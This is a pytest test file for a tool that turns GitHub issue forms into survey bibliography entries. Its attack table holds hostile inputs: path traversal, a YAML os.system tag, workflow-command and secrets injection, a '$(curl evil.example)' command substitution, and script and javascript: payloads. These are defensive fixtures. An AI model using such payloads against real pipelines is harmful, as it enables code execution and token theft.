import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from markdown_it import MarkdownIt

from issues import CORRECTED, CORRECTION, SUGGESTION, body, corrected, event, suggested, write_event
from scratch_git import git, repository
from surveymark.cli import main

ENTRY = """\
title: Teapots That Pour Themselves
authors:
- Pot, Tea
- van der Spout, Ada
arxiv: '2406.01234'
published: {venue: JoC, year: 2025, kind: journal}
topics: [cups]
kind: tool
summary: A teapot tilts when a cup is near. It spills *nothing*.
links:
  code:
  - https://github.com/invented/teapots
added: '2026-11-20'
"""
DAY = "1795132800"
"""2026-11-20, as SOURCE_DATE_EPOCH."""


def surveymark(*arguments: object, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(
        main,
        [str(argument) for argument in arguments],
        env={"SOURCE_DATE_EPOCH": DAY} | (env or {}),
        catch_exceptions=False,
    )


def snapshot(folder: Path) -> dict[str, bytes]:
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file() and path.name != ".lock"
    }


def outputs(path: Path) -> dict[str, str]:
    """What GitHub's runner reads from the file: NAME<<DELIMITER, lines, DELIMITER."""
    found, lines = {}, path.read_text("utf-8").split("\n")
    while lines and lines[0]:
        name, delimiter = lines.pop(0).split("<<")
        end = lines.index(delimiter)
        found[name] = "\n".join(lines[:end])
        lines = lines[end + 1 :]
    assert lines == [""]
    return found


def test_a_suggestion_becomes_an_entry(folder: Path, tmp_path: Path) -> None:
    before = snapshot(folder)
    told = tmp_path / "told"
    done = surveymark(
        "from-issue",
        write_event(tmp_path / "event.json", event(body(SUGGESTION))),
        "--root",
        folder,
        env={"GITHUB_OUTPUT": str(told)},
    )
    assert (done.exit_code, done.output) == (0, "wrote content/papers/pot2024teapots.yml\n")
    written = {
        name: text
        for name, text in snapshot(folder).items()
        if name not in before and name.startswith("content")
    }
    assert {name: text.decode() for name, text in written.items()} == {
        "content/papers/pot2024teapots.yml": ENTRY
    }
    assert surveymark("check", "--root", folder).exit_code == 0
    assert outputs(told) == {
        "outcome": "proposed",
        "key": "pot2024teapots",
        "branch": "issue-12",
        "title": "Add pot2024teapots (issue 12)",
    }
    delimiters = re.findall(r"<<(end-[0-9a-f]{32})\n", told.read_text())
    assert len(delimiters) == 4


def test_a_correction_changes_the_entry(folder: Path, tmp_path: Path) -> None:
    before = snapshot(folder)
    told = tmp_path / "told"
    issue = write_event(tmp_path / "event.json", event(body(CORRECTION), "fix-record"))
    done = surveymark("from-issue", issue, "--root", folder, env={"GITHUB_OUTPUT": str(told)})
    assert (done.exit_code, done.output) == (0, "wrote content/papers/conference2022shelf.yml\n")
    after = snapshot(folder)
    assert after["content/papers/conference2022shelf.yml"].decode() == CORRECTED
    assert {name for name in before if before[name] != after[name]} == {
        "content/papers/conference2022shelf.yml"
    }
    assert outputs(told) == {
        "outcome": "proposed",
        "key": "conference2022shelf",
        "branch": "issue-12",
        "title": "Correct conference2022shelf (issue 12)",
    }


def test_a_refusal_is_told_to_the_issue_and_writes_no_entry(folder: Path, tmp_path: Path) -> None:
    before = snapshot(folder)
    answer, told = tmp_path / "answer.md", tmp_path / "told"
    text = suggested(
        title="Cups That Keep Their Temper", authors="Ada Wood, Ming Li", code="ftp://a.org/`@all`"
    )
    issue = write_event(tmp_path / "event.json", event(text))
    done = surveymark(
        "from-issue", issue, "--answer", answer, "--root", folder, env={"GITHUB_OUTPUT": str(told)}
    )
    assert done.exit_code == 1
    assert done.output == (
        "issue: Authors: expected one name a line; with a semicolon between them if they are two, found Ada Wood, Ming Li\n"
        "issue: Code: expected an address of ASCII letters, digits and URL punctuation only, found ftp://a.org/`@all`\n"
    )
    assert answer.read_text() == (
        "Thank you! This cannot become an entry yet:\n\n"
        "- Authors: expected <code>one name a line&#59; with a semicolon between them if they are two</code>,"
        " found <code>Ada Wood&#44; Ming Li</code>\n"
        "- Code: expected <code>an address of ASCII letters&#44; digits and URL punctuation only</code>,"
        " found <code>ftp&#58;&#47;&#47;a&#46;org&#47;&#96;&#64;all&#96;</code>\n"
        "\nEdit the issue (**⋯** at its top right, then **Edit**), and it is read again.\n"
    )
    assert outputs(told) == {"outcome": "refused"}
    for path in (answer, told, issue):
        path.unlink()
    assert snapshot(folder) == before


def test_somebody_who_suggests_a_known_paper_is_led_to_its_page(
    folder: Path, tmp_path: Path
) -> None:
    answer = tmp_path / "answer.md"
    issue = write_event(tmp_path / "event.json", event(suggested(arxiv="2403.01234")))
    assert surveymark("from-issue", issue, "--answer", answer, "--root", folder).exit_code == 1
    page = "https://invented.github.io/my-survey/papers/berg2024cups/"
    assert answer.read_text() == (
        f"Thank you! This paper is already in the survey: <{page}>. If something there is wrong, choose **Fix this record** on that page.\n"
    )
    issue = write_event(
        tmp_path / "event.json", event(suggested(arxiv="2403.01234", title="One\nTwo"))
    )
    surveymark("from-issue", issue, "--answer", answer, "--root", folder)
    assert "Title: expected <code>one line</code>" in answer.read_text()


def test_curators_hear_that_no_topic_fits(folder: Path, tmp_path: Path) -> None:
    told = tmp_path / "told"
    issue = write_event(tmp_path / "event.json", event(suggested(topic="No topic here fits")))
    done = surveymark("from-issue", issue, "--root", folder, env={"GITHUB_OUTPUT": str(told)})
    assert (done.exit_code, done.output) == (
        0,
        "wrote content/papers/pot2024teapots.yml: no topic fits\n",
    )
    assert outputs(told)["title"] == "Add pot2024teapots (issue 12): no topic fits"
    assert surveymark("check", "--root", folder).exit_code == 0


ATTACKS: dict[str, object] = {
    "a key that climbs out": corrected(key="../../.github/workflows/check"),
    "a key that is an absolute path": corrected(key="/etc/passwd"),
    "a key with a null byte": corrected(key="conference2022shelf\x00.yml"),
    "a key with a bidi mark": corrected(key="conference2022shelf\u202e"),
    "a key with a line end": corrected(key="conference2022shelf\nli2023plates"),
    "the key of another paper": corrected(key="li2023plates"),
    "a former key": corrected(key="plates-in-journals"),
    "an existing key with a new paper": corrected(
        entry="```yaml\ntitle: My Own Paper\ntopics: [cups]\n```"
    ),
    "an entry that takes another paper's id": corrected(
        entry="```yaml\n" + CORRECTED.replace("2205.00001", "2403.01234") + "```"
    ),
    "an unknown field": corrected(entry="```yaml\n" + CORRECTED + "template: x\n```"),
    "an entry that names its own key": corrected(entry="```yaml\n" + CORRECTED + "key: index\n```"),
    "another entry's aliases": corrected(
        entry="```yaml\n" + CORRECTED + "aliases: [berg2024cups]\n```"
    ),
    "a YAML tag": corrected(entry="```yaml\ntitle: !!python/object/apply:os.system [ls]\n```"),
    "a YAML anchor": corrected(entry="```yaml\ntitle: &a A Shelf at a Conference\nnote: *a\n```"),
    "aliases that grow": corrected(entry="```yaml\na: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n```"),
    "two YAML documents": corrected(entry="```yaml\n" + CORRECTED + "---\ntitle: x\n```"),
    "deep YAML": corrected(entry="```yaml\n" + "[" * 20_000 + "\n```"),
    "a field twice": corrected(entry="```yaml\n" + CORRECTED + "title: other\n```"),
    "a script for a link": corrected(
        entry="```yaml\n" + CORRECTED + "links: {code: ['javascript:alert(1)']}\n```"
    ),
    "a fence that is left": corrected(entry="```yaml\n" + CORRECTED + "```\n### Key\nindex\n```\n"),
    "no entry at all": corrected(entry="_No response_"),
    "a heading twice": suggested(summary="Nice.\n\n### Title\n\n::error::x"),
    "a heading that is none of ours": suggested(summary="Nice.\n\n### Key\n\nindex"),
    "a workflow command for an id": suggested(arxiv="::set-output name=key::index"),
    "an expression for an id": suggested(arxiv="${{ secrets.GITHUB_TOKEN }}"),
    "a command in an id": suggested(arxiv="$(curl evil.example)"),
    "a topic that is none": suggested(topic="../topics"),
    "a kind that is none": suggested(kind="virus"),
    "a link with a password": suggested(code="https://user:pass@example.org/"),
    "a link to this machine": suggested(code="http://localhost/"),
    "two lines of title": suggested(title="One\r\nkey=index"),
    "a title of nothing but marks": suggested(title="\u202e\u2066\u200b"),
    "a paper that is here": suggested(title="CUPS that keep their temper"),
    "no licence": suggested(own="- [ ] no"),
    "a licence of one's own": suggested(own="- [X] yes"),
    "100,000 characters": suggested(summary="x" * 100_000),
    "10 MB": suggested(summary="x" * 10_000_000),
    "15,000 authors": suggested(authors="a b\n" * 15_000),
    "9,000 headings": suggested(authors="### x\n" * 9_000),
    "no body": None,
    "a body that is a list": ["### Title"],
    "no form": "Dear curators, please add my paper.",
    "an empty event": {},
    "a list for an event": [],
    "an event without issue": {"action": "opened", "repository": {}},
    "a pull request": {"pull_request": {"number": 1, "body": body(SUGGESTION)}},
    "an issue that is a pull request": event(
        body(SUGGESTION), pull_request={"url": "https://example.org"}
    ),
    "no label": event(body(SUGGESTION), labels=[]),
    "a label of nobody's": event(body(SUGGESTION), "suggest-paper\n"),
    "both labels": event(
        body(SUGGESTION), labels=[{"name": "suggest-paper"}, {"name": "fix-record"}]
    ),
    "the other form's label": event(body(SUGGESTION), "fix-record"),
    "a number that is a path": event(body(SUGGESTION), number="../1"),
    "no JSON": '{"issue": ',
    "a deep event": "[" * 100_000,
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_refused_and_changes_nothing(folder: Path, attack: str) -> None:
    value = ATTACKS[attack]
    is_form = (
        (isinstance(value, str) and value.startswith("### "))
        or value is None
        or attack in {"a body that is a list", "no form"}
    )
    label = (
        "fix-record" if isinstance(value, str) and value.startswith("### Key") else "suggest-paper"
    )
    issue = write_event(folder / "event.json", event(value, label) if is_form else value)
    before = snapshot(folder)
    answer, told = folder / "answer.md", folder / "told"
    done = surveymark(
        "from-issue", issue, "--answer", answer, "--root", folder, env={"GITHUB_OUTPUT": str(told)}
    )
    assert done.exit_code in {1, 2}
    assert done.output or done.stderr
    assert not re.search(
        r"^::|[\x00-\x09\x0b-\x1f\u202a-\u202e\u2066-\u2069]",
        done.output + done.stderr,
        re.MULTILINE,
    )
    if done.exit_code == 1:
        assert len(answer.read_text("utf-8")) < 65_536
        assert outputs(told) == {"outcome": "refused"}
        kinds = {
            token.type
            for block in MarkdownIt("commonmark").parse(answer.read_text("utf-8"))
            for token in (block, *(block.children or ()))
        }
        assert not kinds & {"image", "html_block", "heading_open", "fence"}
        assert ("link_open" in kinds) == (attack == "a paper that is here")
        assert not re.search(r"[@#](?![0-9]+;)", answer.read_text("utf-8").replace("&#", ""))
    else:
        assert not told.exists()
        assert not answer.exists()
    for path in (answer, told):
        path.unlink(missing_ok=True)
    assert snapshot(folder) == before


HARMLESS = {
    "HTML in the title": (
        "title",
        "</title><script>alert(1)</script> pots",
        "</title><script>alert(1)</script> pots",
    ),
    "an expression in the title": (
        "title",
        "Pots ${{ secrets.X }} `id` $(id)",
        "Pots ${{ secrets.X }} `id` $(id)",
    ),
    "a command in the title": ("title", "::error file=x::Pots", "::error file=x::Pots"),
    "an output in the title": ("title", "key=index", "key=index"),
    "YAML in the title": ("title", "!!python/name:x &a *b : - #", "!!python/name:x &a *b : - #"),
    "a link in the title": (
        "title",
        "[Pots](javascript:alert(1)) ![x](y)",
        "[Pots](javascript:alert(1)) ![x](y)",
    ),
    "bidi marks in the title": ("title", "Pots \u202edlo\u2066 of", "Pots dlo of"),
    "null bytes in the title": ("title", "Po\x00ts\x1b[31m", "Pots[31m"),
    "a path for a title": ("title", "../../../../etc/passwd", "../../../../etc/passwd"),
    "a reserved name for a title": ("title", "index", "index"),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_hostile_text_becomes_a_value_and_nothing_else(
    folder: Path, tmp_path: Path, name: str
) -> None:
    field, text, expected = HARMLESS[name]
    before = snapshot(folder)
    issue = write_event(
        tmp_path / "hostile.json", event(suggested(**{field: text, "authors": "_No response_"}))
    )
    done = surveymark(
        "from-issue", issue, "--root", folder, env={"GITHUB_OUTPUT": str(tmp_path / "told")}
    )
    assert done.exit_code == 0, done.output
    issue.unlink()
    told = outputs(tmp_path / "told")
    (tmp_path / "told").unlink()
    new = snapshot(folder).keys() - before.keys()
    assert new == {f"content/papers/{told['key']}.yml"}
    assert re.fullmatch(r"[a-z0-9-]+", told["key"])
    assert told["branch"] == "issue-12"
    checked = surveymark("check", "--root", folder)
    assert checked.exit_code == 0, checked.output
    exported = json.loads(surveymark("export", "csl-json", "--root", folder).output)
    assert [item["title"] for item in exported if item["id"] == told["key"]] == [expected]


def test_forms_are_written_with_the_topics_of_today(folder: Path) -> None:
    assert surveymark("forms", "--root", folder).exit_code == 0
    assert "- Cups <and> mugs" in (folder / ".github/ISSUE_TEMPLATE/suggest-paper.yml").read_text(
        "utf-8"
    )
    assert (folder / ".github/ISSUE_TEMPLATE/fix-record.yml").exists()


@pytest.mark.slow
def test_the_whole_way_from_an_issue_to_a_page(
    folder: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """As the workflows walk it, each step its own process: form, entry, check, patch, branch, summary, page."""
    scratch = tmp_path_factory.mktemp("way")
    origin, work, curator = scratch / "origin.git", scratch / "work", scratch / "curator"
    (folder / "site-config/theme/.keep").touch()
    repository(folder)
    git(scratch, "clone", "--quiet", "--bare", str(folder), str(origin))
    git(scratch, "clone", "--quiet", str(origin), str(work))
    git(scratch, "clone", "--quiet", str(origin), str(curator))

    def run(where: Path, *arguments: object) -> str:
        done = subprocess.run(
            [sys.executable, "-m", "surveymark", *map(str, arguments)],
            cwd=where,
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    run(work, "from-issue", write_event(scratch / "event.json", event(body(SUGGESTION))))
    run(work, "check")
    git(work, "add", "--intent-to-add", "--", "content/papers/*.yml")
    (scratch / "entry.patch").write_text(
        git(work, "diff", "--binary", "--", "content/papers/*.yml"), "utf-8"
    )
    script = Path(__file__).parents[2] / ".github/scripts/propose.py"
    subprocess.run(
        [
            sys.executable,
            script,
            scratch / "entry.patch",
            "--only",
            "entry",
            "--branch",
            "issue-12",
            "--message",
            "Add pot2024teapots (issue 12)",
        ],
        cwd=curator,
        check=True,
    )
    git(curator, "fetch", "--quiet")
    git(curator, "checkout", "--quiet", "origin/issue-12")
    assert git(curator, "diff", "--name-status", "origin/main").split() == [
        "A",
        "content/papers/pot2024teapots.yml",
    ]
    summary = run(curator, "changes", "origin/main", "--format", "markdown")
    assert "Entries: 1 added, 0 changed, 0 renamed, 0 removed." in summary
    assert "@article{pot2024teapots,\n  title = {{Teapots That Pour Themselves}}," in summary
    run(curator, "build")
    page = (curator / "site/papers/pot2024teapots/index.html").read_text("utf-8")
    assert "Teapots That Pour Themselves" in page
    assert "Ada van der Spout" in page
